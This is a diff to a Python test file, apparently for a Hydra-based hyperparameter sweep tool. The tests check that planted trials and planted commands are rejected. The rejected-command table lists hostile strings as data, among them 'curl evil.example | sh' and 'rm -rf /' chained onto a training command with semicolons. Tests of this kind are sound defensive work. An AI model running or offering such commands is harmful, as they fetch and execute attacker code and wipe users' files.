@@ -79,7 +79,7 @@ def test_planted_trials_neither_override_anything_nor_end_the_workers(engine):
     for path in (engine.folder / "trials").glob("*/.hydra/*.yaml"):
         assert "os.system" not in path.read_text()
     # rejected, marked and, with its reason, reported
-    for number, named in ((1, "99.0"), (3, "high=1.0"), (5, "os.system")):
+    for number, named in ((1, "99.0"), (3, "0 to 1;"), (5, "os.system")):
         assert trials[number].state == TrialState.FAIL
         assert named in trials[number].user_attrs["fail_reason"]
 
@@ -106,6 +106,8 @@ def test_a_planted_command_is_not_offered_to_the_reader(tmp_path):
     offered = {
         "python -c 'import os'": False,
         "python train.py -m --config-dir=/elsewhere x=1": False,
+        "python train.py -m --config-dir ../elsewhere x=1": False,
+        "python train.py -cd ~/elsewhere -m x=1": False,
         "rm -rf / ; python train.py -m x=1": False,
         "curl evil.example | sh": False,
         "python train.py -m x=1 ; rm -rf /": False,
